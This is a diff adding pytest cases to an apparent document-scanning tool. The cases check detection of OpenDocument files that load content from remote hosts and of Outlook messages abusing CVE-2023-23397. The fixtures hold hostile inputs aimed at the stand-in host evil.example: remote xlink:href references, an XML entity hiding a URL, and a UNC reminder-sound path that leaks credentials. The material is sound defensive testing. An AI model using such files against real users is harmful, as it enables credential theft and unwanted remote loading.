@@ -243,6 +243,52 @@ def _linked_pdf(catalog: str, action: str) -> bytes:
     return f"%PDF-1.7\n1 0 obj<</Type/Catalog{catalog}>>endobj\n{annotation}\ntrailer<</Root 1 0 R>>\n".encode()
 
 
+@pytest.mark.parametrize(
+    ("element", "expected"),
+    [
+        ('<draw:floating-frame xlink:href="http://evil.example/a.odt"/>', True),
+        ('<draw:floating-frame draw:name="a>b" xlink:href="http://evil.example/a.odt"/>', True),
+        ("<t:section-source xlink:href='https://evil.example/a.odt'/>", True),
+        ('<draw:object xlink:href="http://evil.example/a.odt"/>', True),
+        ('<draw:object-ole xlink:href="&u;"/>', True),
+        ('<meta:auto-reload xlink:href="http://evil.example/"/>', True),
+        ('<draw:object xlink:href="./Object 1"/><t:a xlink:href="http://ok.example/"/>', False),
+        ('<draw:floating-frame xlink:href="http://files/a.odt"/>', False),
+        ('<draw:image xlink:href="http://ok.example/a.png"/>', False),
+    ],
+)
+def test_what_an_opendocument_file_loads_from_the_internet_had_no_tag(element: str, expected: bool) -> None:
+    declared = '<!DOCTYPE x [<!ENTITY u "http://evil.example/x">]>' if "&u;" in element else ""
+    content = zipped(("content.xml", f"{declared}<x {_OFFICE}>{element}</x>".encode()))
+    assert ("office:remote-object" in tags(content, "a.odt")) == expected
+
+
+@pytest.mark.parametrize("piece", ['<draw:object "', "<draw:object ", '<draw:object xlink:href="http://a{}/"/>'])
+def test_many_frames_take_linear_time(piece: str) -> None:
+    content = f"<x {_OFFICE}>//{''.join(map(piece.format, range(20_000)))}".encode()
+    assert fair_cpu_s(lambda: tags(content, "a.fodt")) < 2
+
+
+_NUMBERS = struct.pack("<IHH", 0x851F, 6, 0x1F)
+
+
+@pytest.mark.parametrize(
+    ("number", "path", "expected"),
+    [
+        (_NUMBERS, "\\\\evil.example\\share\\a.wav", True),
+        (_NUMBERS, "\\\\files\\share\\a.wav", False),
+        (_NUMBERS, "reminder.wav", False),
+        (struct.pack("<IHH", 0x8520, 6, 0x1F), "\\\\evil.example\\share\\a.wav", False),
+    ],
+)
+def test_the_sound_of_a_reminder_sent_a_password_to_a_server(number: bytes, path: str, expected: bool) -> None:
+    """CVE-2023-23397."""
+    for name, value in (("001f", path.encode("utf-16-le")), ("001e", path.encode())):
+        streams = {"__substg1.0_801F" + name: value, "__substg1.0_00030102": number}
+        assert ("office:exploit" in tags(ole(streams), "a.msg")) == expected
+        assert ("office:exploit" in tags(ole(dict(reversed(streams.items()))), "a.msg")) == expected
+
+
 def test_many_filters_of_one_stream_took_a_minute() -> None:
     """Each was combined with each dictionary of parameters."""
     about = b"/Filter/FlateDecode" * 3000 + b"/DecodeParms<</Columns 1/Predictor 1>>" * 3000
